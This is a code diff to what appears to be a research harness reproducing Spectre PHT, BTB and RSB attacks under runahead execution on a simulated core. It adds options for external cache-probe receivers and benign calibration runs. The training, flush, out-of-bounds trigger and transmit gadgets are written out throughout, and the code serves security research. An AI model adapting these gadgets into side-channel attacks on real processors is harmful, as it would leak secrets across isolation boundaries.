@@ -38,6 +38,7 @@ DEFAULT_STRIDE = 512
 DEFAULT_SECRET = 86          # the Fig. 9 dip index
 DEFAULT_TRAIN_ITERS = 24
 DEFAULT_DELAY_ITERS = 900
+TRAIN_INDEX = 1              # in-bounds index the training loop passes
 
 
 @dataclass
@@ -57,9 +58,25 @@ class AttackProgram:
     secret_addr: int
     initial_sp: int
     notes: str = ""
+    #: True when the in-assembly probe loop was replaced by a plain halt
+    #: so an external receiver (repro.channel) measures the hierarchy.
+    external_probe: bool = False
+    #: Probe indices the attacker's own training phase warms.  Relevant
+    #: to receivers without a working ``clflush`` (evict+reload): the
+    #: program cannot flush between training and trigger, so these
+    #: entries stay cache-hot and must be excluded from decoding.
+    warmed_probe_indices: tuple = ()
+    #: Index passed to the victim at trigger time (None = the malicious
+    #: out-of-bounds index; an in-bounds value builds the benign
+    #: calibration twin used by prime+probe receivers).
+    trigger_index: int = None
 
     def read_latencies(self, core):
         """Extract the probe latencies from a finished core."""
+        if self.external_probe:
+            raise RuntimeError(
+                "external-probe build has no in-program probe loop; "
+                "measure through a repro.channel receiver instead")
         return [int(core.memory.read_word(self.results_addr + i * WORD_BYTES))
                 for i in range(self.probe_entries)]
 
@@ -70,11 +87,19 @@ class AttackProgram:
 
 def _base_image(array1_words, probe_entries, probe_stride, secret_value,
                 secret_gap_words=48):
-    """Common data layout for every variant."""
+    """Common data layout for every variant.
+
+    The returned image also records, as ``image.train_probe_index``, the
+    probe entry a training call with ``x = TRAIN_INDEX`` transmits
+    (``array1[TRAIN_INDEX]``'s value) — derived from the actual fill so
+    the builders' ``warmed_probe_indices`` can never drift from the data.
+    """
     image = MemoryImage()
     array1 = image.alloc_array("array1", array1_words)
-    image.write_words(array1, [(i * 7 + 1) % probe_entries
-                               for i in range(array1_words)])
+    array1_values = [(i * 7 + 1) % probe_entries
+                     for i in range(array1_words)]
+    image.write_words(array1, array1_values)
+    image.train_probe_index = array1_values[TRAIN_INDEX]
     # The secret lives OUT of array1's bounds, at a known distance.
     secret = image.alloc("secret_word", WORD_BYTES,
                          align=64)
@@ -90,7 +115,8 @@ def _base_image(array1_words, probe_entries, probe_stride, secret_value,
         malicious_index
 
 
-def _probe_and_support(probe_entries, probe_stride, delay_iters):
+def _probe_and_support(probe_entries, probe_stride, delay_iters,
+                       external_probe=False):
     """Assembly for the wait loop and the flush+reload probe.
 
     Register convention: r1-r14 scratch for the harness, r20+ for the
@@ -99,6 +125,21 @@ def _probe_and_support(probe_entries, probe_stride, delay_iters):
     that defeats stride prefetching (vector runahead would otherwise
     prefetch the attacker's own future probe entries).  It writes
     ``results[j'] = access latency of array2[j' * stride]``.
+
+    ``external_probe=True`` keeps the wait loop (the runahead interval
+    must still end before the footprint is architectural) but replaces
+    the probe loop with a halt: a :mod:`repro.channel` receiver measures
+    the hierarchy after the run instead.
+    """
+    if external_probe:
+        return f"""
+    # ---- wait for the runahead interval to end (paper Fig. 8 line 16) --
+        li   r1, {delay_iters}
+    delay_loop:
+        addi r1, r1, -1
+        bne  r1, r0, delay_loop
+        fence
+        halt                    # probe phase runs externally (channel)
     """
     assert probe_entries & (probe_entries - 1) == 0, \
         "probe size must be a power of two for the permutation mask"
@@ -136,12 +177,25 @@ def _probe_and_support(probe_entries, probe_stride, delay_iters):
     """
 
 
-def _flush_phase(probe_entries, probe_stride, extra_flush_lines=("trigger_d",)):
-    """Flush the probe array and the trigger word(s)."""
+def _flush_phase(probe_entries, probe_stride, extra_flush_lines=("trigger_d",),
+                 flush_probe_array=True):
+    """Flush the probe array and the trigger word(s).
+
+    ``flush_probe_array=False`` models a receiver without ``clflush``
+    over the probe array (evict+reload / prime+probe): only the trigger
+    word(s) — the stalling-load precondition of the attack itself, not
+    part of the probe channel — are still flushed.
+    """
     flushes = "\n".join(
         f"""
         li   r4, @{symbol}
         clflush r4, 0""" for symbol in extra_flush_lines)
+    if not flush_probe_array:
+        return f"""
+    # ---- flush phase (attack step 2, trigger word only) ------------------
+        {flushes}
+        fence
+    """
     return f"""
     # ---- flush phase (attack step 2) ------------------------------------
         li   r2, @array2
@@ -161,15 +215,25 @@ def build_pht_attack(secret_value=DEFAULT_SECRET, nop_padding=0,
                      probe_entries=PROBE_ENTRIES,
                      probe_stride=DEFAULT_STRIDE, array1_words=16,
                      delay_iters=DEFAULT_DELAY_ITERS,
-                     touch_secret=True) -> AttackProgram:
+                     touch_secret=True, external_probe=False,
+                     flush_probe_array=True,
+                     trigger_index=None) -> AttackProgram:
     """SpectrePHT under runahead — the paper's main PoC (Figs. 8 and 9).
 
     ``nop_padding`` inserts a nop sled between the poisoned bounds check
     and the secret access, pushing the gadget beyond the reach of the
     reorder buffer: the Fig. 11 experiment.
+
+    ``external_probe`` / ``flush_probe_array`` adapt the program to the
+    :mod:`repro.channel` receivers (external measurement; no ``clflush``
+    over the probe array).  ``trigger_index`` overrides the index passed
+    to the victim at attack time — an in-bounds value produces the
+    benign calibration twin (identical layout, nothing transmitted
+    transiently) that prime+probe decoding baselines against.
     """
     image, array1, secret, array2, results, trigger, sp, malicious = \
         _base_image(array1_words, probe_entries, probe_stride, secret_value)
+    attack_index = malicious if trigger_index is None else trigger_index
 
     secret_touch = """
         li   r4, @secret_word
@@ -206,31 +270,41 @@ def build_pht_attack(secret_value=DEFAULT_SECRET, nop_padding=0,
     # ---- training (attack step 1): poison the PHT ------------------------
         li   r1, {train_iters}
     train_loop:
-        li   r20, 1              # in-bounds index
+        li   r20, {TRAIN_INDEX}  # in-bounds index
         call victim_function
         addi r1, r1, -1
         bne  r1, r0, train_loop
-    {_flush_phase(probe_entries, probe_stride)}
+    {_flush_phase(probe_entries, probe_stride,
+                  flush_probe_array=flush_probe_array)}
     # ---- trigger runahead + transient execution (step 3) -----------------
-        li   r20, {malicious}    # malicious index: &secret - &array1
+        li   r20, {attack_index}    # malicious index: &secret - &array1
         call victim_function
-    {_probe_and_support(probe_entries, probe_stride, delay_iters)}
+    {_probe_and_support(probe_entries, probe_stride, delay_iters,
+                        external_probe=external_probe)}
     """
     program = assemble(source, memory_image=image)
+    # Training calls the gadget with x=TRAIN_INDEX, so its transmit
+    # warms that entry's probe line; relevant when the probe array is
+    # not flushed afterwards (evict+reload / prime+probe builds).
+    warmed = (image.train_probe_index,)
     return AttackProgram(
         program=program, image=image, variant="pht",
         secret_value=secret_value, malicious_index=malicious,
         results_addr=results, probe_entries=probe_entries,
         probe_stride=probe_stride, array1_addr=array1, array2_addr=array2,
         secret_addr=secret, initial_sp=sp,
-        notes=f"nop_padding={nop_padding}")
+        notes=f"nop_padding={nop_padding}",
+        external_probe=external_probe, warmed_probe_indices=warmed,
+        trigger_index=trigger_index)
 
 
 def build_btb_attack(secret_value=DEFAULT_SECRET,
                      train_iters=DEFAULT_TRAIN_ITERS,
                      probe_entries=PROBE_ENTRIES,
                      probe_stride=DEFAULT_STRIDE, array1_words=16,
-                     delay_iters=DEFAULT_DELAY_ITERS) -> AttackProgram:
+                     delay_iters=DEFAULT_DELAY_ITERS, external_probe=False,
+                     flush_probe_array=True,
+                     trigger_index=None) -> AttackProgram:
     """SpectreBTB under runahead (Fig. 4a).
 
     The victim's indirect jump target is loaded from memory; during
@@ -274,7 +348,7 @@ def build_btb_attack(secret_value=DEFAULT_SECRET,
         store r3, r2, 0          # target_ptr = &gadget
         li   r1, {train_iters}
     train_loop:
-        li   r20, 1              # in-bounds: gadget runs benignly
+        li   r20, {TRAIN_INDEX}  # in-bounds: gadget runs benignly
         call victim_function
         addi r1, r1, -1
         bne  r1, r0, train_loop
@@ -283,11 +357,13 @@ def build_btb_attack(secret_value=DEFAULT_SECRET,
         store r3, r2, 0          # architectural target: benign block
         fence
     {_flush_phase(probe_entries, probe_stride,
-                  extra_flush_lines=("target_ptr",))}
+                  extra_flush_lines=("target_ptr",),
+                  flush_probe_array=flush_probe_array)}
     # ---- trigger ---------------------------------------------------------
-        li   r20, {malicious}
+        li   r20, {malicious if trigger_index is None else trigger_index}
         call victim_function
-    {_probe_and_support(probe_entries, probe_stride, delay_iters)}
+    {_probe_and_support(probe_entries, probe_stride, delay_iters,
+                        external_probe=external_probe)}
     """
     # Pre-resolve the two code addresses used as data.
     labels = assemble(source, symbols=_label_stub(image)).labels
@@ -299,14 +375,20 @@ def build_btb_attack(secret_value=DEFAULT_SECRET,
         secret_value=secret_value, malicious_index=malicious,
         results_addr=results, probe_entries=probe_entries,
         probe_stride=probe_stride, array1_addr=array1, array2_addr=array2,
-        secret_addr=secret, initial_sp=sp)
+        secret_addr=secret, initial_sp=sp,
+        external_probe=external_probe,
+        warmed_probe_indices=(image.train_probe_index,),
+        trigger_index=trigger_index)
 
 
 def build_rsb_overwrite_attack(secret_value=DEFAULT_SECRET,
                                probe_entries=PROBE_ENTRIES,
                                probe_stride=DEFAULT_STRIDE,
                                array1_words=16,
-                               delay_iters=DEFAULT_DELAY_ITERS) \
+                               delay_iters=DEFAULT_DELAY_ITERS,
+                               external_probe=False,
+                               flush_probe_array=True,
+                               trigger_index=None) \
         -> AttackProgram:
     """SpectreRSB, direct-overwrite variant (Fig. 4b).
 
@@ -342,9 +424,10 @@ def build_rsb_overwrite_attack(secret_value=DEFAULT_SECRET,
         store r3, r2, 0
         fence
     {_flush_phase(probe_entries, probe_stride,
-                  extra_flush_lines=("hijack_ptr",))}
+                  extra_flush_lines=("hijack_ptr",),
+                  flush_probe_array=flush_probe_array)}
     # ---- trigger ----------------------------------------------------------
-        li   r20, {malicious}
+        li   r20, {malicious if trigger_index is None else trigger_index}
         call victim_function
     # The RSB predicts this point: the gadget runs only transiently.
     rsb_gadget:
@@ -355,7 +438,8 @@ def build_rsb_overwrite_attack(secret_value=DEFAULT_SECRET,
         add  r24, r24, r27
         load r25, r24, 0         # transmit
     benign_landing:
-    {_probe_and_support(probe_entries, probe_stride, delay_iters)}
+    {_probe_and_support(probe_entries, probe_stride, delay_iters,
+                        external_probe=external_probe)}
     """
     labels = assemble(source, symbols=_label_stub(image)).labels
     image.symbols["benign_landing_addr"] = labels["benign_landing"]
@@ -365,13 +449,16 @@ def build_rsb_overwrite_attack(secret_value=DEFAULT_SECRET,
         secret_value=secret_value, malicious_index=malicious,
         results_addr=results, probe_entries=probe_entries,
         probe_stride=probe_stride, array1_addr=array1, array2_addr=array2,
-        secret_addr=secret, initial_sp=sp)
+        secret_addr=secret, initial_sp=sp,
+        external_probe=external_probe, trigger_index=trigger_index)
 
 
 def build_rsb_flush_attack(secret_value=DEFAULT_SECRET,
                            probe_entries=PROBE_ENTRIES,
                            probe_stride=DEFAULT_STRIDE, array1_words=16,
-                           delay_iters=DEFAULT_DELAY_ITERS) -> AttackProgram:
+                           delay_iters=DEFAULT_DELAY_ITERS,
+                           external_probe=False, flush_probe_array=True,
+                           trigger_index=None) -> AttackProgram:
     """SpectreRSB, stack-flush variant (Fig. 4c).
 
     The attacker desynchronizes the RSB from the in-memory stack (the
@@ -400,10 +487,11 @@ def build_rsb_flush_attack(secret_value=DEFAULT_SECRET,
         addi sp, sp, -8
         store r2, sp, 0          # [sp] = benign continuation
         fence
-    {_flush_phase(probe_entries, probe_stride)}
+    {_flush_phase(probe_entries, probe_stride,
+                  flush_probe_array=flush_probe_array)}
         clflush sp, 0            # evict the victim's stack line (Fig. 4c)
         fence
-        li   r20, {malicious}
+        li   r20, {malicious if trigger_index is None else trigger_index}
         call tramp               # RSB now holds &rsb_gadget
     # RSB-predicted return point: the disclosure gadget (transient only).
     rsb_gadget:
@@ -426,7 +514,8 @@ def build_rsb_flush_attack(secret_value=DEFAULT_SECRET,
     rsb_gadget_end:
     benign_landing:
         addi sp, sp, 8           # unwind the planted slot
-    {_probe_and_support(probe_entries, probe_stride, delay_iters)}
+    {_probe_and_support(probe_entries, probe_stride, delay_iters,
+                        external_probe=external_probe)}
     """
     labels = assemble(source, symbols=_label_stub(image)).labels
     image.symbols["benign_landing_addr"] = labels["benign_landing"]
@@ -436,7 +525,8 @@ def build_rsb_flush_attack(secret_value=DEFAULT_SECRET,
         secret_value=secret_value, malicious_index=malicious,
         results_addr=results, probe_entries=probe_entries,
         probe_stride=probe_stride, array1_addr=array1, array2_addr=array2,
-        secret_addr=secret, initial_sp=sp)
+        secret_addr=secret, initial_sp=sp,
+        external_probe=external_probe, trigger_index=trigger_index)
 
 
 def _label_stub(image):
